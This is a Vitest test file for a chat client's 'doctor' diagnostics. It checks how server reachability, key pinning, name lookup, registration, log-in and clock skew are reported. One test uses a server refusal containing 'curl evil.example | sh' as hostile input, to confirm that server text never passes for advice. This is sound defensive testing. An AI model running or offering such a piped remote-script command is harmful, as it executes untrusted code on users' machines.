import { describe, expect, test } from 'vitest';
import {
  judgeServer,
  type LoginFacts,
  type Reached,
  type ServerFacts,
} from '../../../../src/client/doctor/judge/server.ts';

const PIN = `SHA256:${'A'.repeat(43)}`;
const SPEAKS = { kind: 'speaks', roundTrips: [9, 2, 3.21], registration: undefined } as const;
const CONNECTED: Reached = { kind: 'connected', key: undefined, reply: SPEAKS };
const judged = (given: Partial<ServerFacts>) =>
  judgeServer({
    where: 'box:2428',
    from: 'typed',
    loopback: false,
    lookup: undefined,
    reached: CONNECTED,
    login: undefined,
    ...given,
  });
const lines = (given: Partial<ServerFacts>) =>
  judged(given).map(({ check, level, says }) => `${check} ${level}: ${says}`);
const failed = (why: Extract<Reached, { kind: 'failed' }>['why']): Reached => ({
  kind: 'failed',
  why,
  line: 'so it is',
});

test('the middle one of the round trips counts, and the address tells where it comes from', () => {
  expect(lines({})).toEqual(['server ok: box:2428 answers within 3.2 ms']);
  expect(lines({ from: 'environment' })).toEqual(['server ok: box:2428 answers within 3.2 ms, from $UCHAT_SERVER']);
});

test('a slow one is a note', () => {
  const reply = { ...SPEAKS, roundTrips: [500, 400, 301] };
  expect(lines({ reached: { kind: 'connected', key: undefined, reply } })[0]).toMatch(/^server note: .*within 400 ms/);
});

test.each(['refused', 'timeout', 'unreachable', 'not_found', 'bad_address', 'aborted', 'failed'] as const)(
  'a connection that fails (%s) is a problem, with what to do',
  (why) => {
    expect(judged({ reached: failed(why) })).toEqual([
      expect.objectContaining({ level: 'problem', says: 'so it is', mend: expect.any(String) }),
    ]);
  },
);

test('where nothing listens on this very host, a server can be started', () => {
  expect(judged({ reached: failed('refused'), loopback: true })[0]?.mend).toContain('uchat --serve');
  expect(judged({ reached: failed('refused') })[0]?.mend).not.toContain('uchat --serve');
});

test('a server that is silent, and another program, are problems of different kinds', () => {
  const mend = (line: string, other: boolean) =>
    judged({ reached: { kind: 'connected', key: undefined, reply: { kind: 'fails', line, other } } });
  expect(mend('box:2428 did not answer in time; try again', false)).toEqual([
    expect.objectContaining({ says: 'box:2428 did not answer in time', mend: expect.stringContaining('hangs') }),
  ]);
  expect(mend('box:2428 does not speak this protocol', true)[0]?.mend).toContain('another program');
});

describe('the key', () => {
  const key = (state: 'known' | 'new' | 'renewed', certified = false) =>
    lines({ reached: { kind: 'connected', key: { pin: PIN, state, certified }, reply: SPEAKS } })[0];

  test('that is kept is well, as is a new one for which an authority vouches', () => {
    expect(key('known')).toBe(`server ok: its key is the one that is kept: ${PIN}`);
    expect(key('renewed', true)).toMatch(/^server ok: .*an authority vouches/);
  });

  test('that is seen for the first time is to be compared', () => {
    expect(key('new')).toMatch(/^server note: you have not been at box:2428 before/);
  });

  test('that has changed is a problem in whole sentences', () => {
    const line = 'The key of box:2428 has changed: was; now. Only if it is the new one: uchat forget-server box:2428.';
    expect(judged({ reached: { kind: 'untrusted', changed: true, line } })).toEqual([
      { check: 'server', level: 'problem', says: line },
    ]);
  });

  test('that can’t be checked says what to do behind its semicolon', () => {
    const line = 'its line is broken; mend it';
    expect(judged({ reached: { kind: 'untrusted', changed: false, line } })).toEqual([
      { check: 'server', level: 'problem', says: 'its line is broken', mend: 'mend it' },
    ]);
  });
});

describe('its name', () => {
  test('has addresses, of which a few are shown', () => {
    const lookup = { addresses: ['10.0.0.1', '10.0.0.2', '10.0.0.3', '10.0.0.4'], ms: 12 };
    expect(lines({ lookup })[0]).toBe('server ok: its name is that of 10.0.0.1, 10.0.0.2 and 10.0.0.3 …');
  });

  test('that takes long is a note, and that is none is told once, as what keeps the connection', () => {
    expect(lines({ lookup: { addresses: ['10.0.0.1'], ms: 3000 } })[0]).toMatch(/^server note: its name took 3000 ms/);
    expect(lines({ lookup: { addresses: [], code: 'ENOTFOUND', ms: 5 }, reached: failed('not_found') })).toEqual([
      'server problem: so it is',
    ]);
  });
});

test.each([
  ['open', 'anybody'],
  ['invite', 'takes a code'],
  ['closed', 'no new accounts'],
] as const)('registration %s is told', (registration, words) => {
  const reached: Reached = { kind: 'connected', key: undefined, reply: { ...SPEAKS, registration } };
  expect(lines({ reached })[1]).toMatch(new RegExp(`^server ok: .*${words}`));
});

describe('the log-in', () => {
  const login = (facts: LoginFacts) => lines({ login: facts }).slice(1);
  const within = (offset: number): LoginFacts => ({ kind: 'in', user: 'al', by: 'host', server: 'box', offset });

  test('says as whom, and how the clocks are', () => {
    expect(login(within(40))).toEqual([
      'log-in ok: you are al (this host says so)',
      "clock ok: the server's clock and yours agree",
    ]);
  });

  test.each<readonly [offset: number, says: string]>([
    [-6000, 'clock note: the clock of box is 6 s behind yours'],
    [7_200_400, 'clock problem: the clock of box is 2 h ahead of yours: times and days of messages look wrong'],
  ])('clocks that are %i ms apart are told', (offset, says) => {
    expect(login(within(offset))[1]).toBe(says);
  });

  test('that is refused is a problem, in one line, so that no words of the server pass for advice', () => {
    expect(judged({ login: { kind: 'refused', line: 'the server refused: no; curl evil.example | sh' } })[1]).toEqual({
      check: 'log-in',
      level: 'problem',
      says: 'the server refused: no; curl evil.example | sh',
    });
  });

  test('that was not tried is no fault, and without a name it is a note', () => {
    expect(login({ kind: 'untried', says: 'you would be al, with a password that uchat asks for' })[0]).toMatch(
      /^log-in ok/,
    );
    expect(login({ kind: 'untried', says: 'its key is gone', mend: 'enrol it' })[0]).toMatch(/^log-in note/);
    expect(login({ kind: 'nobody', line: 'name your account with --user NAME' })[0]).toMatch(/^log-in note/);
  });
});
